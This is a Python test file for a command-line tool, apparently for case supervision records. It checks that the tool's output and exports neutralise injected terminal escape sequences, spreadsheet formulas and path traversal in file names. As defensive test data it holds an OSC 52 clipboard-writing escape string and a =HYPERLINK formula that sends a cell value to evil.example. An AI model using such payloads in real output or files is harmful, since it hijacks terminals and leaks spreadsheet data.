"""What stands in a record, a file or a file's name steers no terminal, no spreadsheet and no file's
place.
"""

from __future__ import annotations

import contextlib
import io
import json
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import Session, select

from supervision_tui.cli.clean_output import clean_output
from supervision_tui.cli.main import main
from supervision_tui.exports.documents.document import Document
from supervision_tui.records import Direction
from supervision_tui.vault.opener import unlock
from supervision_tui.vault.store import changes_records, open_store
from tests.conftest import PASSPHRASE
from tests.exports.summaries import summary
from tests.exports.summaries import write as write_all
from tests.imports.workbooks import LIST_6, book, child

STEERING = "\x1b]52;c;aGVsbG8=\x07\x1b[2J\x9b31m\x00\r"


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file with the passphrase."""
    path = tmp_path / "pass"
    path.write_text(PASSPHRASE)
    return path


def steers(text: str) -> bool:
    return any(
        (ord(sign) < 0x20 and sign not in "\n\t") or 0x7F <= ord(sign) < 0xA0 for sign in text
    )


@given(st.text())
def test_nothing_that_is_printed_steers_the_terminal(text: str) -> None:
    out = io.StringIO()
    with contextlib.redirect_stdout(out), clean_output():
        print(text)
    assert not steers(out.getvalue())


def test_a_direction_that_steers_is_printed_without_that(
    demo_path: Path, secret: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    @changes_records
    def write(session: Session) -> None:
        row = session.exec(select(Direction).where(Direction.state == "open")).first()
        assert row is not None
        row.text, row.due_on = f"Visit{STEERING}", date(2026, 1, 5)
        session.add(row)

    store = open_store(
        demo_path, unlock(demo_path, passphrase=PASSPHRASE, ask=lambda _why: None).key
    )
    store.run(write)
    store.close()
    assert (
        main(
            [
                "--vault",
                str(demo_path),
                "--passphrase-file",
                str(secret),
                "due",
                "--as-of",
                "2026-03-02",
            ]
        )
        == 0
    )
    out, err = capfd.readouterr()
    assert "Visit" in out
    assert not steers(out + err)


@pytest.mark.parametrize("words", [["rollup"], ["import", "annex-a"], ["themes", "check"]])
def test_the_name_of_a_file_is_printed_without_what_steers(
    words: list[str],
    tmp_path: Path,
    demo_path: Path,
    secret: Path,
    capfd: pytest.CaptureFixture[str],
) -> None:
    odd = tmp_path / "odd\x1b]52;c;aGk=\x07\x9b2J.json"
    odd.write_text(json.dumps({"schema": f"{STEERING}x"}))
    more = ["--out", str(tmp_path / "out.md")] if words == ["rollup"] else []
    main(["--vault", str(demo_path), "--passphrase-file", str(secret), *words, str(odd), *more])
    out, err = capfd.readouterr()
    assert "odd" in err
    assert not steers(out + err)


def test_a_formula_in_a_senders_header_is_made_harmless(
    demo_path: Path, secret: Path, tmp_path: Path
) -> None:
    header = [*LIST_6[:-3], *LIST_6[-3:], '=HYPERLINK("http://evil.example/?"&C2,"x")']
    wrong = [*child("1001", "banana"), "x"]
    workbook, rejects = (
        book(tmp_path / "a.xlsx", {"List 6": [header, wrong]}),
        tmp_path / "rejects.csv",
    )
    words = [
        "import",
        "annex-a",
        str(workbook),
        "--yes",
        "--rejects",
        str(rejects),
        "--as-of",
        "2026-03-02",
    ]
    main(["--vault", str(demo_path), "--passphrase-file", str(secret), *words])
    first = rejects.read_text("utf-8-sig").splitlines()[0]
    assert "HYPERLINK" in first
    assert "'=HYPERLINK" in first


def test_a_roll_up_never_writes_over_the_vault_or_over_what_it_reads(
    demo_path: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    write_all(tmp_path, summary(1, (date(2026, 1, 1), date(2026, 1, 31)), {"sessions.held": 8}))
    read = next(tmp_path.glob("T-*.json"))
    before = demo_path.read_bytes(), read.read_bytes()
    assert (
        main(
            [
                "--vault",
                str(demo_path),
                "rollup",
                str(read),
                "--format",
                "json",
                "--out",
                str(demo_path),
            ]
        )
        == 1
    )
    assert (
        main(
            ["--vault", str(demo_path), "rollup", str(read), "--format", "json", "--out", str(read)]
        )
        == 1
    )
    assert (demo_path.read_bytes(), read.read_bytes()) == before
    assert "name another file" in capfd.readouterr().err


def test_a_file_as_of_a_day_to_come_is_refused_and_stops_no_later_one(
    demo_path: Path, secret: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    workbook = book(tmp_path / "a.xlsx", {"List 6": [LIST_6, child("1001", "CIN")]})
    vault = ["--vault", str(demo_path), "--passphrase-file", str(secret)]
    assert main([*vault, "import", "annex-a", str(workbook), "--yes", "--as-of", "2062-10-05"]) == 4
    assert "still to come" in capfd.readouterr().err
    assert main([*vault, "import", "annex-a", str(workbook), "--yes", "--as-of", "2026-03-03"]) == 0


def test_no_core_file_is_written_and_nobody_may_look_in() -> None:
    look = (
        "from supervision_tui.vault.files import harden_process; harden_process(); import ctypes, "
        "os, resource;"
        "print(resource.getrlimit(resource.RLIMIT_CORE), ctypes.CDLL(None).prctl(3, 0, 0, 0, 0), "
        "oct(os.umask(0)))"
    )
    done = subprocess.run([sys.executable, "-c", look], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "(0, 0) 0 0o77"


@given(st.text(min_size=1))
def test_no_name_leads_a_file_out_of_its_folder(name: str) -> None:
    made = Document("Title", name, ())
    assert Path("folder", f"{made.name}.md").parent == Path("folder")
    assert made.name not in ("", ".", "..")
